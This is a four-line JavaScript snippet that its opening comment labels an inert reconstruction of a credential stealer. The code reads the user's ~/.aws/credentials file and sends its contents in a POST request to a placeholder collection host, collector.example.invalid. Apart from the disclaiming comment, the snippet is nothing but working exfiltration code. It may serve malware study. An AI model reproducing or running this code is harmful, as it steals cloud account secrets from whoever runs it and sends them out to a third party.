// sample: reconstruction of a credential stealer (inert, never run)
const fs = require('fs');
const data = fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');
fetch('https://collector.example.invalid/u', { method: 'POST', body: data });
